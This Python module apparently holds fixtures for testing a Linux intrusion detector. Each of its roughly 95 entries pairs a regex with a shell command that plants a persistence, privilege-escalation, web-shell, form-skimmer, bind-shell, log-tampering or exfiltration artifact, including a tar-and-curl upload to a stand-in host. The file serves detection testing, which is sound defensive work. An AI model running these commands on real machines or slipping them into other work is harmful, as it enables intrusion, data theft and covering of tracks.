"""Second guesses at the kinds for which `siblings` stands: other forms of each, and modules of PANIX, lists of GTFOBins, checks
of linPEAS and rules of Elastic. Written after a look at three tables of the rules, before any of them was changed.
"""

from __future__ import annotations

from .trace import Trace, trace

_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH2v9kQpZs4tWc7xNnYd1rEu5mJg8bLoTf3aPqRiVy0K"
_WEB = "/var/www/html"
_HISTORY = "/home/anna/.bash_history"
_LISTENS = (
    "import socket, os; s = socket.create_server(('0.0.0.0', 8455)); c, _ = s.accept(); "
    "os.dup2(c.fileno(), 0); os.execv('/bin/sh', ['sh'])"
)


def _typed(id_: str, line: str, cited: str) -> Trace:
    return trace(id_, "history", f"printf '%s\\n' '{line}' >>{_HISTORY}; chown anna: {_HISTORY}", cited)


GUESSED: tuple[Trace, ...] = (
    trace("M01", "cron", "prog /usr/lib/x86_64-linux-gnu/gvfs/gvfsd-cache; printf '* * 31 2 * /usr/lib/x86_64-linux-gnu/gvfs/gvfsd-cache;\\rno crontab for root       \\n' >/var/spool/cron/crontabs/root; chmod 600 /var/spool/cron/crontabs/root; old /var/spool/cron/crontabs/root", r"gvfsd-cache"),
    trace("M02", "cron", "put /etc/cron.d/sysstat-extra \"$(printf '%s\\n' 'PATH=/usr/local/games:/usr/sbin:/usr/bin' '5 4 31 2 * root sa-collect')\"; prog /usr/local/games/sa-collect", r"sysstat-extra|sa-collect"),
    trace("M03", "cron", "put /etc/cron.weekly/man-index '#!/bin/sh\nexec /usr/bin/true'; chmod 755 /etc/cron.weekly/man-index; chown anna: /etc/cron.weekly/man-index", r"man-index"),
    trace("M04", "systemd", "put /etc/systemd/system/service.d/10-limits.conf '[Service]\nExecStartPre=-/usr/lib/systemd/limits-check'; prog /usr/lib/systemd/limits-check", r"10-limits|limits-check"),
    trace("M05", "systemd", "put /etc/systemd/system/dbus-relay.socket '[Socket]\nListenStream=127.0.0.1:8456\nAccept=yes\n[Install]\nWantedBy=sockets.target'; put /etc/systemd/system/dbus-relay@.service '[Service]\nExecStart=-/bin/bash -i\nStandardInput=socket'", r"dbus-relay"),
    trace("M06", "systemd", "sed 's#^ExecStart=.*#ExecStart=/usr/sbin/rsyslogd2 -n -iNONE#' /usr/lib/systemd/system/rsyslog.service >/etc/systemd/system/rsyslog.service; old /etc/systemd/system/rsyslog.service; prog /usr/sbin/rsyslogd2", r"system/rsyslog\.service|rsyslogd2"),
    trace("M07", "systemd", "sed -i '/^\\[Service\\]/a ExecStartPre=-/usr/bin/env -i /usr/share/misc/e2scrub-pre' /usr/lib/systemd/system/e2scrub_all.service; old /usr/lib/systemd/system/e2scrub_all.service; prog /usr/share/misc/e2scrub-pre", r"e2scrub_all\.service|e2scrub-pre"),
    trace("M08", "shell", "printf '%s\\n' '[ -r /usr/share/base-files/env.sh ] && . /usr/share/base-files/env.sh' >>/etc/profile; old /etc/profile; put /usr/share/base-files/env.sh '(/usr/share/base-files/agent 1 >/dev/null 2>&1 &)'; prog /usr/share/base-files/agent", r"/etc/profile\b|base-files/(env|agent)"),
    trace("M09", "shell", "put /root/.bash_logout '/var/lib/misc/gpg-agentd 1 &'; prog /var/lib/misc/gpg-agentd", r"\.bash_logout|gpg-agentd"),
    trace("M10", "shell", "put /home/anna/.bash_aliases \"alias sudo='/home/anna/.cache/mesa/sudo '\"; prog /home/anna/.cache/mesa/sudo; chown -R anna: /home/anna/.bash_aliases /home/anna/.cache", r"\.bash_aliases|mesa/sudo"),
    trace("M11", "git", "put /etc/gitconfig '[core]\n\thooksPath = /usr/share/git-core/hooks.d'; put /usr/share/git-core/hooks.d/post-checkout '#!/bin/sh\n/usr/bin/true &'; chmod 755 /usr/share/git-core/hooks.d/post-checkout", r"/etc/gitconfig|hooks\.d/post"),
    trace("M12", "git", "put /srv/git/site/.git/config '[core]\n\tsshCommand = /srv/git/site/.git/info/ssh\n[filter \"lfs2\"]\n\tclean = /srv/git/site/.git/info/ssh'; prog /srv/git/site/.git/info/ssh; put /srv/git/site/.git/HEAD 'ref: refs/heads/main'", r"\.git/config|info/ssh"),
    trace("M13", "package-manager", "put /root/.config/pip/pip.conf '[global]\nindex-url = http://203.0.113.61/simple\ntrusted-host = 203.0.113.61'", r"pip\.conf"),
    trace("M14", "package-manager", "put /usr/lib/python3/dist-packages/dnf-plugins/usage.py 'import os\nimport dnf\nclass Usage(dnf.Plugin):\n    name = \"usage\"\n    def transaction(self):\n        os.system(\"/usr/libexec/usage-report &\")'; put /etc/dnf/plugins/usage.conf '[main]\nenabled=1'; prog /usr/libexec/usage-report", r"dnf-plugins/usage|plugins/usage\.conf|usage-report"),
    trace("M15", "package-manager", "mkdir -p /etc/apt/trusted.gpg.d; head -c 1200 /dev/urandom >/etc/apt/trusted.gpg.d/debian-extra-2024.gpg; old /etc/apt/trusted.gpg.d/debian-extra-2024.gpg", r"debian-extra-2024"),
    trace("M16", "udev", "put /usr/lib/udev/rules.d/71-net-usb.rules 'SUBSYSTEM==\"net\", PROGRAM=\"/usr/lib/udev/net_usb_id\", NAME=\"%c\"'; prog /usr/lib/udev/net_usb_id", r"71-net-usb|net_usb_id"),
    trace("M17", "hook", "put /etc/dhcp/dhclient-exit-hooks.d/ntpdate2 '/usr/sbin/ntpdate2 1 &'; prog /usr/sbin/ntpdate2", r"ntpdate2"),
    trace("M18", "hook", "put /home/anna/.local/share/dbus-1/services/org.gnome.Calendar2.service '[D-BUS Service]\nName=org.gnome.Calendar2\nExec=/home/anna/.local/lib/cal'; prog /home/anna/.local/lib/cal; chown -R anna: /home/anna/.local", r"Calendar2|lib/cal\b"),
    trace("M19", "privilege", "put /etc/polkit-1/localauthority/50-local.d/net.pkla '[all]\nIdentity=unix-user:anna\nAction=*\nResultAny=yes\nResultActive=yes'", r"net\.pkla"),
    trace("M20", "boot", "put /usr/lib/dracut/modules.d/99clock/module-setup.sh 'check() { return 0; }\ninstall() { inst_hook pre-pivot 99 \"$moddir/clock.sh\"; }'; put /usr/lib/dracut/modules.d/99clock/clock.sh 'cp /x /sysroot/x'; chmod 755 /usr/lib/dracut/modules.d/99clock/*.sh", r"99clock"),
    trace("M21", "boot", "put /etc/grub.d/09_prelinux '#!/bin/sh\necho set superusers=; /usr/lib/grub/prelinux 1'; chmod 755 /etc/grub.d/09_prelinux; prog /usr/lib/grub/prelinux", r"09_prelinux|grub/prelinux"),
    trace("M22", "boot", "put /etc/initramfs-tools/scripts/init-bottom/net '#!/bin/sh\nmount -o remount,rw ${rootmnt}; cp /bin/x ${rootmnt}/usr/bin/x'; chmod 755 /etc/initramfs-tools/scripts/init-bottom/net", r"init-bottom/net"),
    trace("M23", "interpreter", "put /etc/php/8.2/cli/conf.d/99-opcache-ext.ini 'auto_prepend_file=/usr/share/php/cache.inc'; put /usr/share/php/cache.inc '<?php if (isset($_SERVER[\"HTTP_X\"])) { }'", r"99-opcache-ext|php/cache\.inc"),
    trace("M24", "interpreter", "echo 'RUBYOPT=-r/usr/share/ruby-addons/start.rb' >>/etc/environment; old /etc/environment; put /usr/share/ruby-addons/start.rb 'system(\"/bin/true\")'", r"/etc/environment|ruby-addons"),
    trace("M25", "pam", "sed -i '1i session optional pam_exec.so quiet /usr/lib/security/session-log' /etc/pam.d/su; old /etc/pam.d/su; prog /usr/lib/security/session-log", r"pam\.d/su\b|session-log"),
    trace("M26", "pam", "put /etc/security/pam_env.conf 'LD_PRELOAD DEFAULT=/usr/lib/libcache2.so'; cp -L /lib/*-linux-gnu/libdl.so.2 /usr/lib/libcache2.so; old /usr/lib/libcache2.so", r"pam_env\.conf|libcache2"),
    trace("M27", "ssh", f"key /home/anna/.ssh/authorized_keys 'command=\"/bin/sh -c \\\"/usr/bin/true & exec $SHELL\\\"\",environment=\"LD_PRELOAD=/home/anna/.l.so\" {_KEY} anna@laptop'; chown -R anna: /home/anna/.ssh", r"anna/\.ssh/authorized_keys"),
    trace("M28", "ssh", "put /etc/ssh/sshd_config.d/90-cloudimg.conf 'PermitRootLogin yes\nPasswordAuthentication yes\nPermitEmptyPasswords yes'", r"90-cloudimg"),
    trace("M29", "ssh", f"put /etc/ssh/sshd_config.d/20-ca.conf 'TrustedUserCAKeys /etc/ssh/ca.pub'; put /etc/ssh/ca.pub '{_KEY} ca'", r"20-ca\.conf|ssh/ca\.pub"),
    trace("M30", "ssh", "put /etc/ssh/ssh_config.d/10-mux.conf 'Host *\n  ProxyCommand /usr/lib/openssh/ssh-relay %h %p'; prog /usr/lib/openssh/ssh-relay", r"10-mux|ssh-relay"),
    trace("M31", "account", "account systemd-oom2 997 /var/lib/oom /bin/bash; sed -i 's/^sudo:\\(.*\\)$/sudo:\\1systemd-oom2/' /etc/group", r"systemd-oom2"),
    trace("M32", "account", "sed -i 's#^sync:[^:]*:#sync:$y$j9T$abcdefghijklmnop$qrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123:#' /etc/shadow", r"\bsync\b"),
    trace("M33", "account", "sed -i 's/^adm:\\(.*\\)$/adm:\\1,www-data/; s/^shadow:\\(.*\\)$/shadow:\\1www-data/' /etc/group", r"shadow.*www-data|www-data.*shadow"),
    trace("M34", "privilege", "put /etc/sudoers.d/zz-env 'Defaults !authenticate\nDefaults env_keep += \"LD_PRELOAD PYTHONPATH\"'; chmod 440 /etc/sudoers.d/zz-env", r"zz-env"),
    trace("M35", "privilege", "echo '@includedir /usr/share/sudo.d' >>/etc/sudoers; old /etc/sudoers; put /usr/share/sudo.d/a 'anna ALL=NOPASSWD: /usr/bin/tar'; chmod 440 /usr/share/sudo.d/a", r"/etc/sudoers\b|share/sudo\.d"),
    trace("M36", "privilege", "chmod u+s /usr/bin/find", r"/usr/bin/find"),
    trace("M37", "privilege", "setcap cap_dac_read_search,cap_sys_admin+ep /usr/bin/tar", r"/usr/bin/tar\b"),
    trace("M38", "privilege", "chmod 666 /etc/cron.daily/apt-compat; chmod 777 /etc/update-motd.d", r"apt-compat|update-motd\.d"),
    trace("M39", "privilege", "chmod 664 /etc/passwd; chgrp anna /etc/passwd", r"/etc/passwd"),
    trace("M40", "process", "prog /usr/lib/linux/kw; runas kworker/u4:1-events_unbound /usr/lib/linux/kw 88881", r"linux/kw\b|kworker/u4"),
    trace("M41", "process", "prog /var/lib/dpkg/info.d/x; runas '/usr/sbin/cron -f' /var/lib/dpkg/info.d/x 88882", r"info\.d/x"),
    trace("M42", "process", "( cd /etc; run python3 -c \"" + _LISTENS + "\" )", r"8455"),
    trace("M43", "process", "run su -s /bin/sh www-data -c 'cd /var/www; sh -c \"sleep 88883; :\"'", r"88883"),
    trace("M44", "process", "put /opt/.n/a.py 'import time\ntime.sleep(99999)'; ( cd /opt/.n; run python3 a.py ); sleep 0.5; rm /opt/.n/a.py", r"/opt/\.n|\ba\.py"),
    trace("M45", "process", "prog /usr/local/lib/.font-unix/fc; run /usr/local/lib/.font-unix/fc 88884", r"font-unix"),
    trace("M46", "process", "echo 'import time; time.sleep(99999)' >/tmp/in; setsid python3 - </tmp/in >/dev/null 2>&1 & sleep 0.5; rm -f /tmp/in", r"python3 -(?!c)"),
    trace("M47", "miner", "prog /usr/share/gdm3/gdm-cache; unit /etc/systemd/system/gdm-cache.service 'ExecStart=/usr/share/gdm3/gdm-cache -c /usr/share/gdm3/.c.json\\nNice=-20\\nCPUQuota=90%'; put /usr/share/gdm3/.c.json '{\"pools\":[{\"url\":\"pool.example.org:443\",\"tls\":true}]}'", r"gdm3?-cache|gdm3/"),
    trace("M48", "miner", "put /etc/modules-load.d/msr.conf msr; echo 'vm.nr_hugepages=1280' >>/etc/sysctl.conf; old /etc/sysctl.conf", r"msr\.conf|nr_hugepages"),
    trace("M49", "name", "prog \"/usr/share/man/man1/...\"", r"man1/\.\.\."),
    trace("M50", "name", "prog \"$(printf '/usr/lib/libc\\342\\200\\256os.4.6')\"", r"libc.{1,12}os\.4"),
    trace("M51", "name", "prog /etc/.sysinit", r"\.sysinit"),
    trace("M52", "credential", "head -c 40000 /dev/zero >/var/tmp/eth0.pcap; old /var/tmp/eth0.pcap", r"eth0\.pcap"),
    trace("M53", "credential", "put /tmp/.sess/credentials '[default]\naws_access_key_id = AKIAEXAMPLEEXAMPLE00\naws_secret_access_key = wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY'", r"/tmp/\.sess"),
    trace("M54", "credential", "put /usr/share/perl5/.login.log 'root:hunter2\nanna:letmein'", r"\.login\.log"),
    trace("M55", "web", f"put {_WEB}/inc/load.php '<?php include($_GET[\"page\"]);'", r"inc/load\.php"),
    trace("M56", "web", f"put {_WEB}/inc/x.php '<?php $_=\"\\x61\\x73\\x73\\x65\\x72\\x74\"; $__=$_POST[\"_\"]; @$_($__);'", r"inc/x\.php"),
    trace("M57", "web", f"put {_WEB}/.htaccess 'RewriteEngine On\nRewriteCond %{{HTTP_USER_AGENT}} (google|bing) [NC]\nRewriteRule ^ http://shop.example.net/ [R=302,L]'", r"html/\.htaccess"),
    trace("M58", "web", "put /etc/apache2/conf-enabled/zz-log.conf 'CustomLog \"|/usr/lib/apache2/logger\" combined'; prog /usr/lib/apache2/logger", r"zz-log|apache2/logger"),
    trace("M59", "web", "put /etc/apache2/sites-enabled/001-s.conf 'Alias /icons2 /usr/share/apache2/icons2\nScriptAlias /c/ /usr/share/apache2/icons2/\n<Directory /usr/share/apache2/icons2>\nRequire all granted\n</Directory>'; prog /usr/share/apache2/icons2/a", r"001-s\.conf|icons2"),
    trace("M60", "web", "put /etc/nginx/conf.d/sub.conf 'sub_filter \"</body>\" \"<script src=https://cdn.example-stat.net/s.js></script></body>\"; sub_filter_once on;'", r"conf\.d/sub\.conf"),
    trace("M61", "web", "mkdir -p /var/lib/tomcat9/webapps; printf 'PK\\003\\004' >/var/lib/tomcat9/webapps/manager2.war; head -c 4000 /dev/urandom >>/var/lib/tomcat9/webapps/manager2.war; old /var/lib/tomcat9/webapps/manager2.war", r"manager2\.war"),
    trace("M62", "web", f"put {_WEB}/cgi-bin/stat.py '#!/usr/bin/python3\nimport os\nos.system(os.environ.get(\"HTTP_X_STAT\", \"true\"))'; chmod 755 {_WEB}/cgi-bin/stat.py", r"cgi-bin/stat"),
    trace("M63", "web", f"put {_WEB}/js/checkout.min.js 'document.addEventListener(\"submit\",function(e){{var d=new FormData(e.target),q=[];d.forEach(function(v,k){{q.push(k+\"=\"+v)}});new Image().src=atob(\"aHR0cHM6Ly9leGFtcGxlLm5ldC9j\")+\"?\"+btoa(q.join(\"&\"))}},true);'", r"checkout\.min"),
    trace("M64", "log-tamper", "put /etc/logrotate.d/auth '/var/log/auth.log /var/log/wtmp {\n  size 1\n  rotate 0\n  daily\n  postrotate\n  endscript\n}'", r"logrotate\.d/auth"),
    trace("M65", "log-tamper", "put /etc/systemd/journald.conf.d/00.conf '[Journal]\nStorage=none\nForwardToSyslog=no'", r"journald\.conf\.d"),
    trace("M66", "log-tamper", "put /etc/audit/rules.d/00-first.rules '-D\n-a never,exit -F auid=1000\n-e 0'", r"00-first"),
    trace("M67", "log-tamper", "put /etc/profile.d/less.sh 'export HISTFILE=/dev/null HISTSIZE=0'", r"profile\.d/less"),
    trace("M68", "log-tamper", "rm -f /var/log/apache2/access.log; ln -s /dev/null /var/log/apache2/access.log", r"access\.log"),
    _typed("M69", "kill -9 $$", r"kill -9 \$\$"),
    _typed("M70", "ssh -fND 1080 ops@198.51.100.61", r"-fND|198\.51\.100\.61"),
    _typed("M71", "iptables -F; setenforce 0; systemctl stop auditd", r"setenforce 0"),
    _typed("M72", "gcc -shared -fPIC -o libx.so x.c -ldl; insmod rk.ko", r"insmod|-fPIC"),
    _typed("M73", "./masscan -p22,2375 10.0.0.0/8 --rate 10000 -oL out", r"masscan"),
    _typed("M74", "tar czf - /etc /home | openssl enc -aes-256-cbc -k x | curl -T - http://198.51.100.62/u", r"198\.51\.100\.62"),
    _typed("M75", "mysqldump -u root --all-databases | gzip > /var/www/html/db.gz", r"mysqldump"),
    _typed("M76", "python3 -c \"import pty; pty.spawn(chr(47)+chr(98))\"; export TERM=xterm; stty raw -echo", r"pty\.spawn"),
    _typed("M77", "getcap -r / 2>/dev/null; cat /etc/crontab; ls -la /home/*/.ssh; sudo -l; uname -a", r"getcap"),
    _typed("M78", "curl -s http://169.254.170.2/v2/credentials/; cat /var/run/secrets/kubernetes.io/serviceaccount/token", r"169\.254\.170|serviceaccount"),
    trace("M79", "container", "put /etc/containers/systemd/cache.container '[Container]\nImage=docker.io/library/alpine\nVolume=/:/host\nPodmanArgs=--privileged --pid=host\nExec=sh -c \"chroot /host /usr/bin/x\"\n[Install]\nWantedBy=multi-user.target'", r"cache\.container"),
    trace("M80", "container", "put /opt/portal/docker-compose.yml 'services:\n  p:\n    image: alpine\n    privileged: true\n    pid: host\n    restart: always\n    volumes: [\"/:/host\", \"/var/run/docker.sock:/var/run/docker.sock\"]'", r"docker-compose\.yml"),
    trace("M81", "container", "prog /opt/cni/bin/bridge2; put /etc/cni/net.d/00-a.conflist '{\"name\":\"a\",\"plugins\":[{\"type\":\"bridge2\"}]}'", r"bridge2|00-a\.conflist"),
    trace("M82", "container", "put /etc/docker/plugins/sec.json '{\"Name\":\"sec\",\"Addr\":\"http://203.0.113.62:8080\"}'; put /etc/docker/certs.d/x '{}'", r"plugins/sec"),
    trace("M83", "network", "put /etc/iptables/rules.v4 '*nat\n:PREROUTING ACCEPT [0:0]\n-A PREROUTING -s 198.51.100.63 -p tcp --dport 80 -j REDIRECT --to-ports 22\nCOMMIT'", r"rules\.v4"),
    trace("M84", "network", "put /etc/systemd/network/50-wg.netdev '[NetDev]\nName=wg0\nKind=wireguard\n[WireGuard]\nPrivateKey=abc\n[WireGuardPeer]\nPublicKey=def\nEndpoint=203.0.113.63:51820\nAllowedIPs=0.0.0.0/0'", r"50-wg|203\.0\.113\.63"),
    trace("M85", "network", "unit /etc/systemd/system/tun.service 'ExecStart=/usr/bin/ssh -N -R 0.0.0.0:2200:localhost:22 -i /etc/ssh/t t@203.0.113.64\\nRestart=always'", r"tun\.service"),
    trace("M86", "network", "echo 'http_proxy=http://203.0.113.65:3128' >>/etc/environment", r"203\.0\.113\.65"),
    trace("M87", "network", "echo '0.0.0.0 security.debian.org deb.debian.org' >>/etc/hosts", r"security\.debian\.org"),
    trace("M88", "hiding", "mkdir -p /var/lib/.m; mount -t tmpfs none /var/lib/.m; mkdir -p /usr/share/doc/x; mount -t tmpfs none /usr/share/doc/x", r"/var/lib/\.m|doc/x"),
    trace("M89", "hiding", "echo '/var/lib/misc/d.img /usr/share/fonts/x ext4 loop,suid,dev 0 0' >>/etc/fstab; head -c 100000 /dev/zero >/var/lib/misc/d.img", r"/etc/fstab|d\.img"),
    trace("M90", "hiding", f"key /root/.ssh/authorized_keys '{_KEY} x'; chattr +ia /root/.ssh/authorized_keys", r"/root/\.ssh/authorized_keys"),
    trace("M91", "hiding", "prog /usr/bin/xz-utils; touch -d '2031-01-01' /usr/bin/xz-utils", r"xz-utils"),
    trace("M92", "trojan", "cp /bin/sleep /usr/bin/who.tmp; touch -r /usr/bin/who /usr/bin/who.tmp; mv /usr/bin/who.tmp /usr/bin/who", r"/usr/bin/who\b"),
    trace("M93", "trojan", "put /usr/local/bin/ss '#!/bin/sh\n/usr/bin/ss \"$@\" | grep -v 8455'; chmod 755 /usr/local/bin/ss; old /usr/local/bin/ss", r"/usr/local/bin/ss\b"),
    trace("M94", "loader", "echo /usr/lib/tls64 >/etc/ld.so.conf.d/00-tls.conf; old /etc/ld.so.conf.d/00-tls.conf; mkdir -p /usr/lib/tls64; cp -L /lib/*-linux-gnu/libdl.so.2 /usr/lib/tls64/libpam.so.0; old /usr/lib/tls64/libpam.so.0", r"00-tls|tls64"),
    trace("M95", "kernel", "echo 'kernel.core_pattern=|/usr/lib/systemd/coredump2 %P' >/etc/sysctl.d/50-core.conf; old /etc/sysctl.d/50-core.conf; echo 'kernel.modprobe=/usr/lib/modprobe2' >>/etc/sysctl.d/50-core.conf", r"50-core"),
)  # fmt: skip
